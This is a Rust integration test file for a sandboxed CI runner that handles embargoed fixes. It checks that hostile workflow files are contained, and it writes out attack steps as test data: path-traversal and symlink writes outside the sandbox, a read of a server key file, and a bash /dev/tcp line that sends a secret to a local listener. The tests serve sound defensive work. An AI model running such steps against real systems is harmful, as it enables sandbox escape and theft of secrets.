//! Workflow files that mean harm, in the real sandbox: no parse, a way out of the folder, a way out to the network.
//!
//! Where bubblewrap cannot start, checks are `unsupported` and nothing runs at all: that is what is asserted there.

#![expect(clippy::unwrap_used, reason = "what fails here fails the test")]

use embargo::app::Checks;
use embargo::domain::access::Role;
use embargo::wire::check::RunView;
use embargo::workflow::check;
use tokio::net::TcpListener;

use crate::support::git::Git;
use crate::support::server::TestApp;
use crate::support::site::Site;

/// Runs the workflow files of a line on a fix; returns the run.
async fn run(files: &[(&str, String)]) -> (TestApp, RunView) {
    let mut site = Site::with_project().await;
    site.configure(|config| {
        config.ci.enabled = true;
        config.ci.minutes = 1;
    });
    let (git, work) = (Git::anonymous(), site.work());
    std::fs::create_dir_all(work.join(".github/workflows")).unwrap();
    for (name, text) in files {
        let text = text.replace("{outside}", site.path().to_str().unwrap());
        git.commit(&work, &format!(".github/workflows/{name}"), &text).await;
    }
    git.succeed(&work, &["push", "-q", "origin", "HEAD:refs/heads/main"]).await;
    let test = TestApp::on(site).await;
    test.settle().await;
    let fixer = test.member("fixer", Role::Fixer).await;
    let case = test.accepted_case(&fixer).await;
    let git = test.git(&fixer).await;
    git.succeed(test.site.path(), &["clone", "-q", &test.remote(&case), "clone"]).await;
    let clone = test.site.path().join("clone");
    git.commit(&clone, "sample.c", "mended\n").await;
    git.succeed(&clone, &["push", "-q", "origin", "HEAD:refs/heads/fix/main"]).await;
    test.settle().await;
    let runs = check::list(&test.app, &fixer, &case).await.unwrap();
    (test, runs.into_iter().next().unwrap())
}

fn job(steps: &str) -> String {
    format!("on: pull_request\njobs:\n  sample:\n    runs-on: ubuntu-latest\n    steps:\n{steps}")
}

/// Tells whether the sandbox runs here; where not, checks that nothing ran.
fn runs_here(test: &TestApp, run: &RunView) -> bool {
    match &test.app.checks {
        Checks::Ready(_) => true,
        Checks::Off(why) => {
            assert_eq!(run.state, "unsupported");
            assert!(run.note.starts_with("Not run: ") && run.note.contains(why), "{}", run.note);
            assert!(run.jobs.is_empty());
            false
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_workflow_that_does_not_parse_is_never_green() {
    let (test, run) = run(&[("broken.yml", "on: [pull_request\njobs: {{{".to_owned())]).await;
    assert_ne!(run.state, "success");
    if runs_here(&test, &run) {
        assert_eq!(run.state, "unsupported", "{run:?}");
        let reason = run.jobs[0].reason.as_deref().unwrap();
        assert!(!reason.is_empty() && !reason.contains("panicked"), "{reason}");
    }
}

/// Attack: a workflow of the project, or a dependency it calls, that writes to the machine it runs on.
#[tokio::test(flavor = "multi_thread")]
async fn a_workflow_that_writes_outside_fails_and_leaves_nothing_there() {
    let steps = "      - run: echo out > {outside}/escaped\n        continue-on-error: true\n      \
                 - run: echo out > ../../../escaped\n        continue-on-error: true\n      \
                 - run: ln -s {outside} way && echo out > way/escaped\n        continue-on-error: true\n      \
                 - run: cat {outside}/keys/server.key\n";
    let (test, run) = run(&[("escape.yml", job(steps))]).await;
    assert!(!test.site.path().join("escaped").exists());
    assert!(!test.app.config.checks_folder().join("escaped").exists());
    if runs_here(&test, &run) {
        assert_eq!(run.state, "failure", "{run:?}");
    }
    let left = std::fs::read_dir(test.app.config.checks_folder()).unwrap().map(|entry| entry.unwrap().file_name());
    // `base` is the root of every sandbox, made once.
    let left: Vec<_> = left.filter(|name| name != "base").collect();
    assert!(left.is_empty(), "the folder of the job is gone: {left:?}");
}

/// Attack: a workflow that carries the embargoed tree away.
#[tokio::test(flavor = "multi_thread")]
async fn a_workflow_that_tries_the_network_reaches_nobody() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let steps = format!("      - run: echo secret > /dev/tcp/127.0.0.1/{port}\n        shell: bash\n");
    let (test, run) = run(&[("network.yml", job(&steps))]).await;
    if runs_here(&test, &run) {
        assert_eq!(run.state, "failure", "{run:?}");
    }
    let nobody = futures_util::FutureExt::now_or_never(listener.accept());
    assert!(nobody.is_none(), "somebody came: {nobody:?}");
}

/// A sound workflow beside the hostile ones: without it, "failure" would prove nothing.
#[tokio::test(flavor = "multi_thread")]
async fn a_sound_workflow_is_green_here() {
    let (test, run) = run(&[("sound.yml", job("      - run: echo inside > inside && grep inside inside\n"))]).await;
    if runs_here(&test, &run) {
        assert_eq!(run.state, "success", "{run:?}");
    }
}

#[tokio::test]
async fn a_project_that_checks_pushes_alone_is_told_that_nothing_was_checked() {
    let (test, run) = run(&[("ci.yml", job("    - run: make test\n").replace("on: pull_request", "on: push"))]).await;
    if !runs_here(&test, &run) {
        return;
    }
    assert_eq!((run.state.as_str(), run.jobs.len()), ("unsupported", 0), "not run is not nothing to run");
    assert!(run.note.contains(".github/workflows/ci.yml runs on pushes alone"), "{}", run.note);
    assert!(run.note.contains("Add `pull_request` to its `on:` on the public main"), "{}", run.note);
}
